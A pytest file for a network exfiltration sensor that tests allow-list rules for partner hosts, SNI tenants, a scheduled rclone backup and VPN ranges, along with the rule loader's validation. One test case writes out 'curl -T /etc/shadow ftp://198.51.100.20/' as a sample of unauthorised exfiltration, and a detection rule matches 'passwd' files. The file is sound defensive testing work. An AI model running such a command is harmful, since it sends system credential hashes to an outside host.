"""False-positive controls: each example under rules/examples/ suppresses exactly the
case it names and nothing else; the loader refuses what it does not implement."""

from __future__ import annotations

import calendar
import logging
import textwrap
from pathlib import Path

import pytest
import yaml

from sensor.core.config import Limits, config_from_dict
from sensor.detect.detector import Detector
from sensor.detect.rules import RuleError, load_rule_docs, load_rules
from sensor.io.capture import read_file
from sensor.io.sinks import MemorySink, TeeSink
from sensor.pipeline import Pipeline
from sensor.records.mde import RECORD_FIELDS
from tests.support.craft import tcp_session, write_pcap
from tests.support.tls import openssl_client_hello

REPO = Path(__file__).resolve().parent.parent
EX = REPO / "rules" / "examples"
SHIPPED = load_rules(REPO / "rules", RECORD_FIELDS)
DEV = "10.1.1.5"
T0 = calendar.timegm((2026, 11, 27, 1, 0, 0))
# the examples use documentation ranges; here they stand in for public addresses (as in the demo)
STAND_IN_PUBLIC = {"198.51.100.0/24": "Public", "203.0.113.0/24": "Public"}


def example(name: str):
    return load_rules(EX / name, RECORD_FIELDS)


def fragment(name: str) -> dict:
    return yaml.safe_load((EX / name).read_text())


def sessions(
    server: str, port: int = 21, n: int = 4, t: float = T0, c2s: bytes = b"USER backup\r\n", cport: int = 40000
) -> list:
    return sum(
        (tcp_session(DEV, server, cport + i, port, t + i * 600, c2s=c2s, s2c=b"220 hi\r\n") for i in range(n)), []
    )


def run(tmp_path: Path, pkts: list, rules, config: dict) -> dict:
    """The replay's wiring, in process: records, alerts, the pipeline."""
    cfg = config_from_dict(config)
    mem = MemorySink()
    pipe = Pipeline(cfg, rules, TeeSink(mem))
    pcap = write_pcap(tmp_path / f"t{len(list(tmp_path.iterdir()))}.pcap", pkts)
    res = read_file(pcap, pipe.handler_for, pipe.capture_filters(), pipe.refilter)
    assert not res.error
    pipe.finish()
    alerts = [a for a in mem.records["alerts"] if "ConnectionCount" in a]
    return {
        "conns": mem.records["connections"],
        "alerts": alerts,
        "alerted": sorted((a["RemoteIP"], a["RemotePort"]) for a in alerts),
    }


def suppressed(rules, conns) -> list[tuple[str, str]]:
    det = rules.detections[0]
    out = []
    for c in conns:
        v = det.explain(c)
        out += [(c["RemoteIP"], e.selection) for e in v.suppressed_by]
    return out


def base_config(**more) -> dict:
    cfg = {"ip_type_overrides": dict(STAND_IN_PUBLIC)}
    for k, v in more.items():
        if k == "ip_type_overrides":
            cfg[k].update(v)
        else:
            cfg[k] = v
    return cfg


# -- what is loaded by default ----------------------------------------------------------------
def test_default_rules_folder_is_unchanged():
    assert len(SHIPPED.detections) == 1 and len(SHIPPED.correlations) == 1
    assert SHIPPED.allow_entries == ()
    assert {Path(d.source).parent for d in SHIPPED.detections} == {REPO / "rules"}


@pytest.mark.parametrize(
    "name", ["allow_partner_cidr.yml", "allow_partner_hostname.yml", "allow_mft_sni.yml", "allow_scheduled_backup.yml"]
)
def test_every_example_is_a_drop_in_with_a_reason_and_expiry(name):
    rs = example(name)
    assert [d.id for d in rs.detections] == [d.id for d in SHIPPED.detections]
    assert [(c.id, c.group_by, c.threshold) for c in rs.correlations] == [
        (c.id, c.group_by, c.threshold) for c in SHIPPED.correlations
    ]
    (entry,) = rs.allow_entries
    assert entry.selection.startswith("filter_") and entry.reason and entry.expires
    assert not entry.expired_now(), f"{name}: its example entry has expired; move the date"


# -- partner destinations by CIDR ------------------------------------------------------------------
def test_partner_cidr_suppresses_only_the_partner(tmp_path):
    pkts = sessions("198.51.100.5") + sessions("198.51.100.20", cport=41000) + sessions("203.0.113.9", cport=42000)
    cfg = base_config()
    shipped = run(tmp_path, pkts, SHIPPED, cfg)
    rs = example("allow_partner_cidr.yml")
    allowed = run(tmp_path, pkts, rs, cfg)
    assert shipped["alerted"] == [("198.51.100.20", 21), ("198.51.100.5", 21), ("203.0.113.9", 21)]
    assert allowed["alerted"] == [("198.51.100.20", 21), ("203.0.113.9", 21)]
    assert suppressed(rs, allowed["conns"]) == [("198.51.100.5", "filter_partner_contoso")] * 4
    assert rs.allow_entries[0].hits == 4


def test_partner_cidr_expired_entry_stops_matching_and_says_so_once(tmp_path, caplog):
    rs = example("allow_partner_cidr.yml")
    after = calendar.timegm((2027, 7, 1, 0, 0, 1))  # the entry expires 2027-06-30 (inclusive)
    caplog.set_level(logging.WARNING, logger="xfer-sensor.rules")
    r = run(tmp_path, sessions("198.51.100.5", n=6, t=after), rs, base_config())
    assert r["alerted"] == [("198.51.100.5", 21)]
    warnings = [m for m in caplog.messages if "expired" in m]
    assert len(warnings) == 1 and "filter_partner_contoso" in warnings[0] and "2027-06-30" in warnings[0]
    assert rs.allow_entries[0].expired_hits == 6 and rs.allow_entries[0].hits == 0
    v = rs.detections[0].explain(r["conns"][0])
    assert v.matched and [e.selection for e in v.expired] == ["filter_partner_contoso"]
    # the last day itself is still covered
    rs2 = example("allow_partner_cidr.yml")
    last_day = calendar.timegm((2027, 6, 30, 20, 0, 0))
    assert run(tmp_path, sessions("198.51.100.5", n=4, t=last_day - 4000), rs2, base_config())["alerted"] == []


# -- partner destinations by host name ---------------------------------------------------------------
def test_partner_hostname_suppresses_only_named_partners(tmp_path):
    names = fragment("partner_hostnames.yaml")["hostnames"]
    pkts = sessions("198.51.100.7") + sessions("203.0.113.9", cport=41000) + sessions("198.51.100.99", cport=42000)
    rs = example("allow_partner_hostname.yml")
    r = run(tmp_path, pkts, rs, base_config(hostnames=names))
    assert r["alerted"] == [("198.51.100.99", 21), ("203.0.113.9", 21)]
    assert suppressed(rs, r["conns"]) == [("198.51.100.7", "filter_partner_fabrikam")] * 4
    urls = {c["RemoteIP"]: c["RemoteUrl"] for c in r["conns"]}
    assert urls == {
        "198.51.100.7": "sftp.fabrikam.example",
        "203.0.113.9": "files.northwind.example",
        "198.51.100.99": "",
    }
    # the name is what allows: without the hostnames map the partner alerts
    r2 = run(tmp_path, pkts, example("allow_partner_hostname.yml"), base_config())
    assert r2["alerted"] == [("198.51.100.7", 21), ("198.51.100.99", 21), ("203.0.113.9", 21)]
    assert all("RemoteUrl" not in c for c in r2["conns"])  # records unchanged without hostnames


# -- FTPS to a managed-file-transfer tenant by SNI -------------------------------------------------------
def test_mft_sni_suppresses_only_our_tenant(tmp_path):
    ours = openssl_client_hello("contoso.moveitcloud.com")
    theirs = openssl_client_hello("evil.moveitcloud.com")
    nosni = openssl_client_hello(None)
    pkts = (
        sessions("203.0.113.50", 990, c2s=ours)
        + sessions("203.0.113.51", 990, c2s=theirs, cport=41000)
        + sessions("203.0.113.52", 990, c2s=nosni, cport=42000)
        + sessions("203.0.113.53", 21, cport=43000)
    )  # plain FTP, no TLS at all
    rs = example("allow_mft_sni.yml")
    r = run(tmp_path, pkts, rs, base_config())
    assert r["alerted"] == [("203.0.113.51", 990), ("203.0.113.52", 990), ("203.0.113.53", 21)]
    assert suppressed(rs, r["conns"]) == [("203.0.113.50", "filter_mft_tenant")] * 4
    snis = {c["RemoteIP"]: c["AdditionalFields"].get("TlsSni") for c in r["conns"]}
    assert snis["203.0.113.50"] == "contoso.moveitcloud.com" and snis["203.0.113.52"] is None
    assert run(tmp_path, pkts, SHIPPED, base_config())["alerted"] == [
        ("203.0.113.50", 990),
        ("203.0.113.51", 990),
        ("203.0.113.52", 990),
        ("203.0.113.53", 21),
    ]


# -- a scheduled backup: process and destination together --------------------------------------------------
def endpoint_record(i: int, process: str, cmdline: str, remote: str, port: int = 21) -> dict:
    ts = f"2026-11-27T0{1 + i}:00:00.000000Z"
    rec = {f: "" for f in RECORD_FIELDS}
    rec.update(
        {
            "Timestamp": ts,
            "FirstSeen": ts,
            "LastSeen": ts,
            "DeviceName": "SRV-BACKUP-1",
            "ActionType": "ConnectionSuccess",
            "LocalIP": "10.0.0.9",
            "LocalPort": 40000 + i,
            "RemoteIP": remote,
            "RemotePort": port,
            "Protocol": "Tcp",
            "LocalIPType": "Private",
            "RemoteIPType": "Public",
            "InitiatingProcessFileName": process,
            "InitiatingProcessId": 900 + i,
            "InitiatingProcessAccountName": "backup",
            "InitiatingProcessCommandLine": cmdline,
            "AccountName": "backup",
            "SentBytes": 1000,
            "ReceivedBytes": 100,
            "Uid": f"C{process}{remote}{i}",
            "Direction": "outbound",
            "Vlan": 0,
            "DataSentBytes": 0,
            "DataReceivedBytes": 0,
            "AdditionalFields": {},
        }
    )
    return rec


def alerts_for(rules, cases) -> list[tuple]:
    """Each case (four connections) on its own detector."""
    out = []
    for process, cmdline, remote in cases:
        det = Detector(rules, Limits())
        for i in range(4):
            rec = endpoint_record(i, process, cmdline, remote)
            for a in det.observe(rec, T0 * 1_000_000 + i * 3_600_000_000):
                if "ConnectionCount" in a:
                    out.append((a["InitiatingProcessFileName"], a["RemoteIP"]))
    return sorted(out)


def test_scheduled_backup_allows_only_process_and_destination_together():
    job = "rclone sync /srv/backup offsite-ftp: --transfers 4"
    cases = [
        ("rclone", job, "198.51.100.20"),  # the job: allowed
        ("rclone", job, "203.0.113.9"),  # same job, another destination
        ("curl", "curl -T /etc/shadow ftp://198.51.100.20/", "198.51.100.20"),  # another process
        ("rclone", "rclone copy /home/alice offsite-ftp:", "198.51.100.20"),
    ]  # another command
    rs = example("allow_scheduled_backup.yml")
    assert alerts_for(SHIPPED, cases) == sorted(
        [("rclone", "198.51.100.20"), ("rclone", "203.0.113.9"), ("curl", "198.51.100.20"), ("rclone", "198.51.100.20")]
    )
    got = alerts_for(rs, cases)
    assert got == sorted([("rclone", "203.0.113.9"), ("curl", "198.51.100.20"), ("rclone", "198.51.100.20")])
    assert rs.allow_entries[0].hits == 4
    v = rs.detections[0].explain(endpoint_record(0, "rclone", job, "198.51.100.20"))
    assert not v.matched and [e.reason for e in v.suppressed_by] == ["Nightly off-site backup (runbook OPS-77)"]


def test_filter_on_process_alone_is_refused(tmp_path):
    text = (EX / "allow_scheduled_backup.yml").read_text()
    alone = text.replace("    RemoteIP|cidr: 198.51.100.20/32\n    RemotePort: 21\n", "")
    p = tmp_path / "alone.yml"
    p.write_text(alone)
    with pytest.raises(RuleError) as e:
        load_rules(p, RECORD_FIELDS)
    assert e.value.field == "detection.filter_backup_job" and "process or account alone" in str(e.value)
    # refused without x-allow too
    p.write_text(alone.split("x-allow:")[0] + "---" + alone.split("\n---", 1)[1])
    with pytest.raises(RuleError, match="process or account alone"):
        load_rules(p, RECORD_FIELDS)
    # an allow entry that does not name the destination is refused
    port_only = (
        text.replace("    InitiatingProcessFileName: rclone\n", "")
        .replace("    InitiatingProcessCommandLine|contains: 'sync /srv/backup offsite-ftp:'\n", "")
        .replace("    RemoteIP|cidr: 198.51.100.20/32\n", "")
    )
    p.write_text(port_only)
    with pytest.raises(RuleError) as e:
        load_rules(p, RECORD_FIELDS)
    assert e.value.field == "x-allow.filter_backup_job" and "destination" in str(e.value)


# -- VPN / CGNAT ranges -------------------------------------------------------------------------------
def test_vpn_cgnat_overrides_suppress_only_the_tunnel(tmp_path):
    vpn = fragment("vpn_cgnat.yaml")["ip_type_overrides"]
    smb = b"\x00\x00\x00\x04abcd"
    pkts = (
        sessions("198.51.100.130", 445, c2s=smb)
        + sessions("198.51.100.20", 445, c2s=smb, cport=41000)
        + sessions("100.64.1.2", 445, c2s=smb, cport=42000)
    )
    without = run(tmp_path, pkts, SHIPPED, base_config())
    with_vpn = run(tmp_path, pkts, SHIPPED, base_config(ip_type_overrides=vpn))
    assert without["alerted"] == [("198.51.100.130", 445), ("198.51.100.20", 445)]
    assert with_vpn["alerted"] == [("198.51.100.20", 445)]
    types = {(c["RemoteIP"]): c["RemoteIPType"] for c in with_vpn["conns"]}
    assert types == {"198.51.100.130": "Private", "198.51.100.20": "Public", "100.64.1.2": "Private"}
    assert {c["RemoteIP"]: c["RemoteIPType"] for c in without["conns"]}["100.64.1.2"] == "Reserved"


# -- what the loader refuses -------------------------------------------------------------------------------
RULE = """
title: t
id: r-1
logsource: {category: network_connection}
detection:
  selection: {RemotePort: 21}
  filter_a: {RemoteIP|cidr: 198.51.100.0/24}
  condition: %s
%s
"""


@pytest.mark.parametrize(
    "cond,extra,field,words",
    [
        ("selection and not filter_a", "x-allow: {filter_b: {reason: x}}", "x-allow.filter_b", "no selection"),
        ("selection and filter_a", "x-allow: {filter_a: {reason: x}}", "x-allow.filter_a", "only negates"),
        (
            "selection and not filter_a",
            "x-allow: {filter_a: {reason: x, owner: me}}",
            "x-allow.filter_a.owner",
            "unknown key",
        ),
        ("selection and not filter_a", "x-allow: {filter_a: {expires: someday}}", "x-allow.filter_a.expires", "date"),
        ("selection and not filter_a", "x-allow: [filter_a]", "x-allow", "must map"),
        ("selection and not filter_a", "x-allowed: {}", "x-allowed", "unknown key"),
        ("selection and not filter_a", "", None, None),
    ],
)
def test_allow_entry_validation(cond, extra, field, words):
    doc = yaml.safe_load(textwrap.dedent(RULE % (cond, extra)))
    if field is None:
        rs = load_rule_docs([("r.yml", 0, doc)], RECORD_FIELDS)
        assert rs.detections[0].match({"RemotePort": 21, "RemoteIP": "192.0.2.1"})
        assert not rs.detections[0].match({"RemotePort": 21, "RemoteIP": "198.51.100.1"})
        return
    with pytest.raises(RuleError) as e:
        load_rule_docs([("r.yml", 0, doc)], RECORD_FIELDS)
    assert e.value.field == field and words in str(e.value)


def test_sigma_filter_documents_and_unknown_nested_fields_are_refused():
    meta = {
        "title": "f",
        "id": "f-1",
        "logsource": {"category": "network_connection"},
        "filter": {"rules": ["r-1"], "selection": {"RemoteIP": "1.2.3.4"}, "condition": "not selection"},
    }
    with pytest.raises(RuleError, match="Sigma filter documents are not implemented"):
        load_rule_docs([("f.yml", 0, meta)], RECORD_FIELDS)
    doc = yaml.safe_load(
        textwrap.dedent(RULE % ("selection", "")).replace(
            "filter_a: {RemoteIP|cidr: 198.51.100.0/24}", "filter_a: {AdditionalFields.TlsSNI: x}"
        )
    )
    with pytest.raises(RuleError, match="unknown field 'AdditionalFields.TlsSNI'"):
        load_rule_docs([("r.yml", 0, doc)], RECORD_FIELDS)


def test_dotted_and_list_fields_match():
    doc = yaml.safe_load(
        textwrap.dedent("""
        title: t
        id: r-2
        logsource: {category: network_connection}
        detection:
          sni: {AdditionalFields.TlsSni|endswith: .example}
          files: {AdditionalFields.Files|contains: passwd}
          condition: sni or files
    """)
    )
    m = load_rule_docs([("r.yml", 0, doc)], RECORD_FIELDS).detections[0].match
    assert m({"AdditionalFields": {"TlsSni": "a.example"}})
    assert m({"AdditionalFields": {"Files": ["x", "etc/passwd.bak"]}})
    assert not m({"AdditionalFields": {"Files": ["x"], "TlsSni": "a.example.org"}})
    assert not m({"AdditionalFields": {}}) and not m({})
